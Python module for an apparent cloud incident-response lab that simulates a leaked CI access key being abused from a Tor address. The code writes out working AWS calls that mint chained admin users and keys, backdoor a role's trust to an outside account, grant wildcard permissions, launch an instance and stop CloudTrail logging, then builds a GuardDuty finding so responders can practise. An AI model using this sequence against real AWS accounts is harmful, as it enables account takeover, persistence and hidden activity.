"""The second compromise: a CI user's long-term access key leaks and is used from a Tor
exit node. The key makes an administrator with a key of its own, whose key makes another
user with a key, whose key launches an instance and stops the trail; one of the account's
roles is made to trust an outside account. Every call is real against the lab's AWS and is
written to CloudTrail; then GuardDuty's finding is built from what was seen.

The leaked key also rewrites the role's own inline policy and attaches policies to it: one
it already had (the administrator's), and AdministratorAccess. Recovery puts the
administrator's policy back; eradication detaches only AdministratorAccess.

The response needs three rounds of eradication: the leaked key leads to cloud-sync's key,
that one to metrics-agent's, and metrics-agent's key mints nothing.
"""

import json
from datetime import UTC, datetime, timedelta
from typing import Any, Literal

from lab.attack import ATTACKER_AGENT, CONSOLE_AGENT, CORPORATE_IP, OUTSIDE_ACCOUNT
from lab.calls import Caller, Clock, ScenarioReport, key_session
from lab.cloudtrail import Actor, TrailRecorder, iam_user_identity
from lab.guardduty import user_key_finding
from lab.world import LabWorld, admin_session, client, lambda_zip

TOR_EXIT_IP = "192.0.2.77"  # documentation range, standing for a Tor exit node
CI_IP = "203.0.113.40"  # the CI runners' egress address
CI_AGENT = "aws-cli/2.17.0 Python/3.11.9 Linux/6.5.0-1025-azure exe/x86_64.ubuntu.22 prompt/off"
DEPLOY_AGENT = "Boto3/1.35.0 md/Botocore#1.35.0 ua/2.0 os/linux lang/python#3.12.3 cfg/deploy"

TRUST_ROLE = "audit-readonly"
ROLE_POLICY = "audit-read"  # the role's inline policy, which the attacker rewrites
ROLE_POLICY_ATTACHED = "arn:aws:iam::aws:policy/ReadOnlyAccess"  # attached before, and again
ROLE_POLICY_ESCALATION = "arn:aws:iam::aws:policy/AdministratorAccess"
SECOND_GENERATION_USER = "cloud-sync"
THIRD_GENERATION_USER = "metrics-agent"
THIRD_GENERATION_POLICY = "metrics"
ATTACKER_INSTANCE_NAME = "metrics-collector"
LEGITIMATE_NEW_USER = "new-hire-erin"
LEGITIMATE_FUNCTION = "orders-api"
PRIOR_CHANGE_AGE = timedelta(days=2)
CI_CALLS_AGE = timedelta(hours=3)


class UserKeyAttackReport(ScenarioReport):
    """What the user-key attack did, generation by generation; it holds no secret."""

    scenario: Literal["user-key"] = "user-key"
    user_name: str
    user_id: str
    leaked_access_key_id: str
    tor_exit_ip: str
    second_generation_user: str
    second_generation_access_key_id: str
    third_generation_user: str
    third_generation_access_key_id: str
    attacker_instance_id: str
    trust_changed_role: str
    outside_account: str
    # The administrator's own trust policy for the role, two days before: what recovery
    # finds in CloudTrail and restores.
    prior_trust_policy: dict[str, Any]
    prior_trust_changed_at: datetime
    # The role's inline policy as the administrator set it, which the attacker overwrote;
    # the managed policy it already had; the one the attacker added.
    role_policy_name: str
    prior_role_policy: dict[str, Any]
    role_policy_attached_before: str
    role_policy_escalation: str
    legitimate_user_created: str
    legitimate_function_updated: str
    legitimate_function_code_sha256: str

    @property
    def access_key_chain(self) -> list[str]:
        """The attacker's keys in the order each made the next."""
        return [
            self.leaked_access_key_id,
            self.second_generation_access_key_id,
            self.third_generation_access_key_id,
        ]


def _user_actor(world: LabWorld, user: dict[str, Any], key_id: str, ip: str, agent: str) -> Actor:
    return Actor(
        iam_user_identity(
            account_id=world.account_id,
            user_name=user["UserName"],
            user_id=user["UserId"],
            access_key_id=key_id,
        ),
        ip,
        agent,
    )


def _prior_trust_policy(account_id: str) -> dict[str, Any]:
    """The administrator's tightening of the role's trust: the account may assume it, with MFA."""
    return {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Effect": "Allow",
                "Principal": {"AWS": f"arn:aws:iam::{account_id}:root"},
                "Action": "sts:AssumeRole",
                "Condition": {"Bool": {"aws:MultiFactorAuthPresent": "true"}},
            }
        ],
    }


def _prior_role_policy() -> dict[str, Any]:
    """What the audit role may do: read CloudTrail and Config, nothing else."""
    return {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Effect": "Allow",
                "Action": ["cloudtrail:LookupEvents", "config:Get*"],
                "Resource": "*",
            }
        ],
    }


def run_user_key_attack(
    endpoint_url: str, world: LabWorld, now: datetime | None = None
) -> UserKeyAttackReport:
    if not world.build_bot_user_id:
        raise ValueError("the world has no build-bot yet: provision_build_bot first")
    now = now or datetime.now(UTC).replace(microsecond=0)
    start = now - timedelta(minutes=30)
    recorder = TrailRecorder(account_id=world.account_id, bucket=world.cloudtrail_bucket)
    operator = admin_session()
    iam = client(operator, "iam", endpoint_url)
    # A trail an earlier scenario stopped is logging again before this story begins.
    cloudtrail = client(operator, "cloudtrail", endpoint_url)
    if not cloudtrail.get_trail_status(Name=world.trail_name)["IsLogging"]:
        cloudtrail.start_logging(Name=world.trail_name)
    # build-bot's key stands for one made long ago; its secret lives in this process only.
    leaked = iam.create_access_key(UserName=world.build_bot_user)["AccessKey"]
    bot_user = {"UserName": world.build_bot_user, "UserId": world.build_bot_user_id}
    ci_deployer = iam.get_user(UserName="ci-deployer")["User"]
    ci_deployer_key = iam.list_access_keys(UserName="ci-deployer")["AccessKeyMetadata"][0]
    admin_user = {"UserName": world.admin_user, "UserId": world.admin_user_id}

    def admin(clock: Clock) -> Caller:
        return Caller(
            recorder,
            _user_actor(world, admin_user, world.admin_key_id, CORPORATE_IP, CONSOLE_AGENT),
            operator,
            endpoint_url,
            clock,
        )

    # Two days before: the administrator tightens the role's trust, a change of its own.
    prior_at = start - PRIOR_CHANGE_AGE
    prior_trust = _prior_trust_policy(world.account_id)
    earlier = admin(Clock(prior_at))
    earlier(
        "iam", "UpdateAssumeRolePolicy", RoleName=TRUST_ROLE, PolicyDocument=json.dumps(prior_trust)
    )
    prior_policy = _prior_role_policy()
    earlier(
        "iam",
        "PutRolePolicy",
        RoleName=TRUST_ROLE,
        PolicyName=ROLE_POLICY,
        PolicyDocument=json.dumps(prior_policy),
    )
    earlier("iam", "AttachRolePolicy", RoleName=TRUST_ROLE, PolicyArn=ROLE_POLICY_ATTACHED)
    # Hours before: the CI pipeline's ordinary, read-only use of its key.
    ci = Caller(
        recorder,
        _user_actor(world, bot_user, leaked["AccessKeyId"], CI_IP, CI_AGENT),
        key_session(leaked),
        endpoint_url,
        Clock(start - CI_CALLS_AGE, step=timedelta(seconds=40)),
    )
    ci("sts", "GetCallerIdentity")
    ci("ec2", "DescribeInstances")
    ci("iam", "GetRole", RoleName=world.role_name)

    clock = Clock(start)
    # Generation 1: the leaked key, from a Tor exit node.
    first = Caller(
        recorder,
        _user_actor(world, bot_user, leaked["AccessKeyId"], TOR_EXIT_IP, ATTACKER_AGENT),
        key_session(leaked),
        endpoint_url,
        clock,
    )
    first("sts", "GetCallerIdentity")
    first("iam", "ListUsers")
    first("iam", "ListRoles")
    first("secretsmanager", "ListSecrets", denied="AccessDenied")  # not in build-bot's policy
    # Meanwhile, an administrator's ordinary work: it must survive the response.
    admin(clock)("iam", "CreateUser", UserName=LEGITIMATE_NEW_USER)
    admin(clock)(
        "iam",
        "AttachUserPolicy",
        UserName=LEGITIMATE_NEW_USER,
        PolicyArn="arn:aws:iam::aws:policy/ReadOnlyAccess",
    )
    second_user = first("iam", "CreateUser", UserName=SECOND_GENERATION_USER)["User"]
    first(
        "iam",
        "AttachUserPolicy",
        UserName=SECOND_GENERATION_USER,
        PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess",
    )
    second_key = first("iam", "CreateAccessKey", UserName=SECOND_GENERATION_USER)["AccessKey"]
    # And a deployment of the orders API by the CI deployer, also to survive.
    deployed = Caller(
        recorder,
        _user_actor(world, ci_deployer, ci_deployer_key["AccessKeyId"], CI_IP, DEPLOY_AGENT),
        operator,
        endpoint_url,
        clock,
    )(
        "lambda",
        "UpdateFunctionCode",
        FunctionName=LEGITIMATE_FUNCTION,
        ZipFile=lambda_zip("def handle(event, context):\n    return {'ok': True, 'v': 2}\n"),
    )
    # A way back in from outside: the account's own role also trusts the attacker's account.
    backdoored_trust = first("iam", "GetRole", RoleName=TRUST_ROLE)["Role"][
        "AssumeRolePolicyDocument"
    ]
    backdoored_trust["Statement"].append(
        {
            "Effect": "Allow",
            "Principal": {"AWS": f"arn:aws:iam::{OUTSIDE_ACCOUNT}:root"},
            "Action": "sts:AssumeRole",
        }
    )
    first(
        "iam",
        "UpdateAssumeRolePolicy",
        RoleName=TRUST_ROLE,
        PolicyDocument=json.dumps(backdoored_trust),
    )
    # And the role may do anything: its own policy rewritten in place, more attached.
    first(
        "iam",
        "PutRolePolicy",
        RoleName=TRUST_ROLE,
        PolicyName=ROLE_POLICY,
        PolicyDocument=json.dumps(
            {
                "Version": "2012-10-17",
                "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}],
            }
        ),
    )
    first("iam", "AttachRolePolicy", RoleName=TRUST_ROLE, PolicyArn=ROLE_POLICY_ATTACHED)
    first("iam", "AttachRolePolicy", RoleName=TRUST_ROLE, PolicyArn=ROLE_POLICY_ESCALATION)

    # Generation 2: cloud-sync's own key makes the next user and key.
    second = Caller(
        recorder,
        _user_actor(world, second_user, second_key["AccessKeyId"], TOR_EXIT_IP, ATTACKER_AGENT),
        key_session(second_key),
        endpoint_url,
        clock,
    )
    second("sts", "GetCallerIdentity")
    third_user = second("iam", "CreateUser", UserName=THIRD_GENERATION_USER)["User"]
    third_key = second("iam", "CreateAccessKey", UserName=THIRD_GENERATION_USER)["AccessKey"]
    second(
        "iam",
        "PutUserPolicy",
        UserName=THIRD_GENERATION_USER,
        PolicyName=THIRD_GENERATION_POLICY,
        PolicyDocument=json.dumps(
            {
                "Version": "2012-10-17",
                "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}],
            }
        ),
    )

    # Generation 3: metrics-agent's key launches a machine and stops the trail.
    third = Caller(
        recorder,
        _user_actor(world, third_user, third_key["AccessKeyId"], TOR_EXIT_IP, ATTACKER_AGENT),
        key_session(third_key),
        endpoint_url,
        clock,
    )
    third("sts", "GetCallerIdentity")
    # A public image the attacker knows already: looking it up is not part of the story.
    images = client(operator, "ec2", endpoint_url).describe_images(Owners=["amazon"])["Images"]
    launched = third(
        "ec2",
        "RunInstances",
        ImageId=images[0]["ImageId"],
        InstanceType="t3.micro",
        MinCount=1,
        MaxCount=1,
        TagSpecifications=[
            {
                "ResourceType": "instance",
                "Tags": [{"Key": "Name", "Value": ATTACKER_INSTANCE_NAME}],
            }
        ],
    )["Instances"][0]
    # Covering tracks: the last record the trail delivers before its gap.
    third("cloudtrail", "StopLogging", Name=world.trail_name)
    third("s3", "ListBuckets")  # unseen: logging is off

    finished = clock.next()
    # What GuardDuty saw: the leaked key's calls from the Tor exit node.
    tor_calls = sorted(
        (datetime.fromisoformat(r["eventTime"].replace("Z", "+00:00")), r["eventName"])
        for r in recorder.records
        if r["userIdentity"].get("accessKeyId") == leaked["AccessKeyId"]
        and r["sourceIPAddress"] == TOR_EXIT_IP
    )
    delivered = len(recorder.records)
    files = recorder.deliver(client(operator, "s3", endpoint_url))
    first_seen, first_api = tor_calls[0]
    finding = user_key_finding(
        account_id=world.account_id,
        region=world.region,
        access_key_id=leaked["AccessKeyId"],
        principal_id=world.build_bot_user_id,
        user_name=world.build_bot_user,
        remote_ip=TOR_EXIT_IP,
        api=first_api,
        service_name="sts.amazonaws.com",
        user_agent=ATTACKER_AGENT,
        first_seen=first_seen,
        last_seen=tor_calls[-1][0],
        count=len(tor_calls),
    )
    return UserKeyAttackReport(
        user_name=world.build_bot_user,
        user_id=world.build_bot_user_id,
        leaked_access_key_id=leaked["AccessKeyId"],
        tor_exit_ip=TOR_EXIT_IP,
        second_generation_user=SECOND_GENERATION_USER,
        second_generation_access_key_id=second_key["AccessKeyId"],
        third_generation_user=THIRD_GENERATION_USER,
        third_generation_access_key_id=third_key["AccessKeyId"],
        attacker_instance_id=launched["InstanceId"],
        trust_changed_role=TRUST_ROLE,
        outside_account=OUTSIDE_ACCOUNT,
        prior_trust_policy=prior_trust,
        prior_trust_changed_at=prior_at,
        role_policy_name=ROLE_POLICY,
        prior_role_policy=prior_policy,
        role_policy_attached_before=ROLE_POLICY_ATTACHED,
        role_policy_escalation=ROLE_POLICY_ESCALATION,
        legitimate_user_created=LEGITIMATE_NEW_USER,
        legitimate_function_updated=LEGITIMATE_FUNCTION,
        legitimate_function_code_sha256=deployed["CodeSha256"],
        started_at=start,
        finished_at=finished,
        log_files=files,
        records_delivered=delivered,
        records_not_logged=recorder.dropped,
        finding=finding,
    )
